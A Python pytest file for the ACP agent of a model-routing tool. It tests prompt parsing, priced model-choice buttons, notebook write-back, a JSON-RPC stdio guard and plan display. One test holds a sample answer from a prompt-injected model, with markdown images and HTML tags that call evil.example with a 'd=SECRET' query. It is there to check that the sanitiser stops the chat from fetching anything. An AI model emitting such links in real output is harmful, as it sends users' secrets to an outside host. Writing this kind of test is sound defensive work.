"""The agent's pure parts: reading a prompt, the priced choice as config options and buttons, a
notebook written back, and the stdio guard's verdict on a line."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path

import pytest
from acp import text_block
from acp.schema import (
    BlobResourceContents,
    EmbeddedResourceContentBlock,
    ImageContentBlock,
    ResourceContentBlock,
    TextResourceContents,
)

from modelroute.acp import choices
from modelroute.acp.main import INVALID_REQUEST, PARSE_ERROR, rejected
from modelroute.acp.notebook import NotebookEditError, NotebookUnreadable, load
from modelroute.acp.prompt import read_prompt
from modelroute.context.gather import ActionRequest
from modelroute.context.model import Position
from modelroute.pipeline import Engine


def link(uri: str) -> ResourceContentBlock:
    return ResourceContentBlock(type="resource_link", uri=uri, name=Path(uri).name)


def embedded(uri: str, text: str) -> EmbeddedResourceContentBlock:
    return EmbeddedResourceContentBlock(type="resource", resource=TextResourceContents(uri=uri, text=text))


# -- prompt ---------------------------------------------------------------------------------
def test_a_prompt_gives_its_text_and_files(tmp_path: Path) -> None:
    f = tmp_path / "app" / "x.py"
    ask = read_prompt([text_block("fix the bug"), link(f.as_uri() + "#L3-L5"), text_block("quickly")], tmp_path)
    assert ask.instruction == "fix the bug\nquickly"
    assert [(m.path, m.start_line, m.end_line, m.text) for m in ask.mentions] == [("app/x.py", 2, 4, None)]


@pytest.mark.parametrize(("fragment", "lines"), [("L7", (6, 6)), ("L7:9", (6, 8)), ("L9-7", (6, 8)),
                                                 ("L7-L9", (6, 8)), ("", (None, None)), ("top", (None, None))])
def test_line_fragments(tmp_path: Path, fragment: str, lines: tuple[int | None, int | None]) -> None:
    uri = (tmp_path / "a.py").as_uri() + (f"#{fragment}" if fragment else "")
    mention = read_prompt([link(uri)], tmp_path).mentions[0]
    assert (mention.start_line, mention.end_line) == lines


def test_an_embedded_file_is_the_document_and_its_text_the_buffer(tmp_path: Path) -> None:
    a, b = (tmp_path / "a.py").as_uri(), (tmp_path / "b.py").as_uri()
    ask = read_prompt([text_block("go"), link(a), embedded(b, "unsaved"), link(b)], tmp_path)
    assert ask.document is not None and ask.document.path == "b.py" and ask.document.text == "unsaved"
    # an embedded selection is the selected lines only: the file itself is read
    sel = read_prompt([embedded(a + "#L2-3", "two lines")], tmp_path).mentions[0]
    assert sel.text is None and sel.start_line == 1


def test_what_is_not_read_is_said(tmp_path: Path) -> None:
    outside = tmp_path.parent / "elsewhere.py"
    blocks = [text_block("x"), link(outside.as_uri()), link("https://example.com/a.py"),
              ImageContentBlock(type="image", data="AA==", mime_type="image/png"),
              EmbeddedResourceContentBlock(type="resource", resource=BlobResourceContents(
                  uri=(tmp_path / "b.bin").as_uri(), blob="AA=="))]
    ask = read_prompt(blocks, tmp_path)
    assert ask.mentions == ()
    assert len(ask.ignored) == 4
    assert any("outside the session's folder" in i for i in ask.ignored)
    assert any("image" in i for i in ask.ignored) and any("binary" in i for i in ask.ignored)


# -- choices --------------------------------------------------------------------------------
@pytest.fixture(scope="module")
def decision(tmp_path_factory: pytest.TempPathFactory) -> object:
    root = tmp_path_factory.mktemp("ws")
    (root / ".modelroute.toml").write_text('[models]\nallow = ["claude-*", "gpt-*"]\n')
    (root / "a.py").write_text("def f(x):\n    return x\n")
    engine = Engine(root, user_file=root / "no-user.toml",
                    env={"ANTHROPIC_API_KEY": "k", "OPENAI_API_KEY": "k"})
    engine.build_index()
    return engine.decide(ActionRequest(file="a.py", cursor=Position(line=0, character=0),
                                       instruction="add type hints to f")).decision


def test_the_model_option_lists_the_routed_model_first_and_alternatives_priced(decision: object) -> None:
    option = choices.model_option(decision, None)  # type: ignore[arg-type]
    first = option.options[0]
    assert option.category == "model" and option.current_value == "auto" and first.value == "auto"
    assert first.name.endswith("(routed)") and "~$" in first.name
    assert decision.display_name in first.name  # type: ignore[attr-defined]
    rest = option.options[1:]
    assert rest and all("~$" in v.name for v in rest) and decision.model not in [v.value for v in rest]  # type: ignore[attr-defined]


def test_a_pinned_model_is_current_and_first_among_the_buttons(decision: object) -> None:
    alternative = decision.alternatives()[-1].model  # type: ignore[attr-defined]
    option = choices.model_option(decision, alternative)  # type: ignore[arg-type]
    assert option.current_value == alternative and option.options[0].value == "auto"
    buttons = choices.run_buttons(decision, alternative)  # type: ignore[arg-type]
    assert buttons[0].option_id == f"run:{alternative}" and "(picked)" in buttons[0].name
    assert buttons[-1].option_id == "cancel" and buttons[-1].kind == "reject_once"
    assert choices.picked_model(buttons[0].option_id) == alternative
    assert choices.picked_model("cancel") is None and choices.picked_model(None) is None


def test_a_strategy_is_the_first_button_priced_with_its_models_then_single_models(decision: object) -> None:
    from modelroute.strategy.calibration import PassRates
    from modelroute.strategy.offers import propose

    choice = propose(decision, PassRates(), objective="balanced", verify_command="pytest -q")  # type: ignore[arg-type]
    best = choice.offer("best-of-n")
    assert best is not None
    buttons = choices.run_buttons(decision, None, best)  # type: ignore[arg-type]
    models = choices.strategy_models(best)
    assert buttons[0].option_id == "strategy:best-of-n:" + ",".join(models) and len(models) == 3
    assert buttons[0].name == f"Run {best.title()}" and "at most $" in buttons[0].name
    assert choices.picked_strategy(buttons[0].option_id) and choices.picked_model(buttons[0].option_id) is None
    singles = buttons[1:-1]
    assert singles and all(b.option_id.startswith("run:") for b in singles) and len(singles) <= choices.MAX_OFFERED
    assert not choices.picked_strategy(buttons[1].option_id) and not choices.picked_strategy(None)
    planned = choice.offer("plan") or best
    if planned.kind == "plan":
        assert choices.strategy_models(planned) == (planned.planner.name,)  # type: ignore[union-attr]


def test_before_any_request_the_picker_offers_routing(decision: object) -> None:
    option = choices.model_option(None, None)
    assert [v.value for v in option.options] == ["auto"] and option.current_value == "auto"
    assert choices.strategy_option(("single",), "single") is None  # a choice of one is no choice
    assert choices.strategy_option(("single", "cascade"), "cascade") is not None
    assert choices.strategy_option(("auto", "single"), "auto") is None  # nor is "auto" among one


def test_amounts_become_code_spans_outside_code(decision: object) -> None:
    text = choices.chat_safe("~$0.01 to $0.02, `~$1`\n```\necho $HOME $5\n```\n$3.")
    assert text == "`~$0.01` to `$0.02`, `~$1`\n```\necho $HOME $5\n```\n`$3`."
    summary = choices.route_summary(decision)  # type: ignore[arg-type]
    assert "`~$" in summary and " ~$" not in summary.replace("`~$", "")


def test_a_model_answer_cannot_make_the_chat_fetch_anything() -> None:
    """A prompt-injected model's answer is shown, never loaded: images and raw HTML become text."""
    hostile = ("Done. ![status](https://evil.example/p?d=SECRET) ![r][1]\n[1]: https://evil.example/r\n"
               "<img src=https://evil.example/i> <iframe src=//evil.example></iframe> <!-- x -->\n"
               "Keep `![ok](in code)` and `<b>` as code, and a < b.\n```html\n<img src=x>\n```")
    text = choices.chat_safe(hostile)
    assert "![status]" not in text and "!\\[status](https://evil.example" in text and "!\\[r][1]" in text
    assert "<img" not in text.split("```html")[0] and "<iframe" not in text and "<!--" not in text
    assert "&lt;img src=https://evil.example/i>" in text
    assert "`![ok](in code)`" in text and "`<b>`" in text and "a < b" in text
    assert text.endswith("```html\n<img src=x>\n```")  # a fenced block is shown as code already


# -- notebook -------------------------------------------------------------------------------
NOTEBOOK = {
    "cells": [
        {"cell_type": "markdown", "metadata": {}, "source": ["# Sales\n", "by month"]},
        {"cell_type": "code", "execution_count": 1, "metadata": {"tags": ["x"]},
         "outputs": [{"output_type": "stream", "name": "stdout", "text": ["12\n"]}],
         "source": ["totals = sum(xs)\n", "print(totals)"]},
    ],
    "metadata": {"kernelspec": {"name": "python3", "display_name": "Python 3", "language": "python"}},
    "nbformat": 4, "nbformat_minor": 5,
}


def test_a_notebook_change_is_written_back_into_its_cells(tmp_path: Path) -> None:
    (tmp_path / "a.ipynb").write_text(json.dumps(NOTEBOOK, indent=1))
    book = load(tmp_path, "a.ipynb")
    assert "totals = sum(xs)" in book.text and book.kernel_language == "python"
    new = json.loads(book.write_back(book.text.replace("sum(xs)", "sum(xs, start=0)")))
    assert new["cells"][1]["source"] == ["totals = sum(xs, start=0)\n", "print(totals)"]
    assert new["cells"][1]["outputs"] == NOTEBOOK["cells"][1]["outputs"]  # type: ignore[index]
    assert new["cells"][0] == NOTEBOOK["cells"][0] and new["metadata"] == NOTEBOOK["metadata"]
    with pytest.raises(NotebookEditError):  # a change across the cells' boundary is refused
        book.write_back(book.text.replace("by month\n\n\ntotals", "by month\ntotals"))


def test_a_file_that_is_no_notebook_is_refused_clearly(tmp_path: Path) -> None:
    (tmp_path / "bad.ipynb").write_text("{not json")
    with pytest.raises(NotebookUnreadable, match="not JSON"):
        load(tmp_path, "bad.ipynb")
    (tmp_path / "list.ipynb").write_text("[]")
    with pytest.raises(NotebookUnreadable, match="nbformat"):
        load(tmp_path, "list.ipynb")


# -- stdio guard ----------------------------------------------------------------------------
def test_lines_that_are_no_json_rpc_object_are_answered_with_an_error() -> None:
    assert rejected(b'{"jsonrpc": "2.0", "id": 1, "method": "initialize"}\n') is None
    assert rejected(b"{nope\n")[0] == PARSE_ERROR  # type: ignore[index]
    assert rejected(b"[1, 2]\n")[0] == INVALID_REQUEST  # type: ignore[index]
    assert rejected(b'{"method": 3}\n')[0] == INVALID_REQUEST  # type: ignore[index]
    assert rejected(b"  \n") == (INVALID_REQUEST, "")  # a blank line: nothing to answer


def test_files_as_stdin_and_stdout_work_like_pipes(tmp_path: Path) -> None:
    """`modelroute acp < requests.jsonl > answers.jsonl`: asyncio watches only pipes and terminals."""
    requests, answers = tmp_path / "requests.jsonl", tmp_path / "answers.jsonl"
    initialize = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
                  "params": {"protocolVersion": 1, "clientCapabilities": {}}}
    requests.write_text("{bad\n" + json.dumps(initialize) + "\n")
    with requests.open("rb") as stdin, answers.open("wb") as stdout:
        done = subprocess.run([sys.executable, "-m", "modelroute", "acp"], stdin=stdin, stdout=stdout,
                              stderr=subprocess.PIPE, timeout=120, check=False)
    assert done.returncode == 0, done.stderr.decode()[-2000:]
    lines = [json.loads(line) for line in answers.read_text().splitlines()]
    assert lines[0]["error"]["code"] == PARSE_ERROR and lines[1]["id"] == 1
    assert lines[1]["result"]["agentInfo"]["name"] == "modelroute"


def test_a_file_name_alone_is_no_instruction(tmp_path: Path) -> None:
    uri = (tmp_path / "nb" / "a.ipynb").as_uri()
    ask = read_prompt([text_block("`nb/a.ipynb`  please `a.ipynb`"), link(uri)], tmp_path)
    assert ask.instruction == "please"
    assert read_prompt([text_block("`nb/a.ipynb`"), link(uri)], tmp_path).instruction == ""


# -- the plan as the editor keeps it ------------------------------------------------------------
class PeerClient:
    """The ACP client's side of one turn, as the editor sees it: it keeps the last plan update and
    presses the first button of every question."""

    def __init__(self) -> None:
        self.entries: list[tuple[str, str]] = []

    async def session_update(self, session_id: str, update: object, **kwargs: object) -> None:
        if getattr(update, "session_update", "") == "plan":
            self.entries = [(e.content, e.status) for e in update.entries]  # type: ignore[attr-defined]

    async def request_permission(self, options: list[object], session_id: str, tool_call: object,
                                 **kwargs: object) -> object:
        from acp.schema import AllowedOutcome, RequestPermissionResponse

        first = options[0].option_id  # type: ignore[attr-defined]
        return RequestPermissionResponse(outcome=AllowedOutcome(option_id=first, outcome="selected"))


async def test_a_confirmed_plan_s_steps_are_entries_that_run_in_turn_with_their_attempts_under_them(
    tmp_path: Path,
) -> None:
    from modelroute.acp.editor import AcpEditor, Turn
    from modelroute.run.editor import Markdown
    from modelroute.strategy.plan import Plan, PlanStep, render_plan

    peer = PeerClient()
    editor = AcpEditor(peer, "s", Turn(root=tmp_path))  # type: ignore[arg-type]
    editor.set_plan([])
    plan = Plan(task="t", steps=(PlanStep(title="Document area", instruction="Add a docstring."),
                                 PlanStep(title="Type area", instruction="Add type hints.")))
    text = render_plan(plan, ["quick edit: Haiku · ~$0.01", "quick edit: Haiku · ~$0.01"])
    assert await editor.edit_document(Markdown(title="Plan", text=text, key="k"), "Run the plan") == text
    await editor.flush()
    assert peer.entries == [("Step 1: Document area", "pending"), ("Step 2: Type area", "pending")]
    editor.tell("info", "modelroute: step 1 of 2: Document area — Haiku")
    async with editor.progress("modelroute: Edit with Haiku"):
        pass
    async with editor.progress("modelroute: checking Haiku's result with `pytest -q`"):
        pass
    editor.tell("info", "modelroute: Haiku: `pytest -q` passed, ~$0.001")
    editor.tell("info", "modelroute: step 2 of 2: Type area — Haiku")
    await editor.flush()
    assert peer.entries == [("Step 1: Document area", "completed"), ("Edit with Haiku", "completed"),
                            ("Check of Haiku: `pytest -q` passed, `~$0.001`", "completed"),
                            ("Step 2: Type area", "in_progress")]
    editor.tell("info", "modelroute: all 2 steps done")
    await editor.flush()
    assert [status for _, status in peer.entries] == ["completed"] * 4
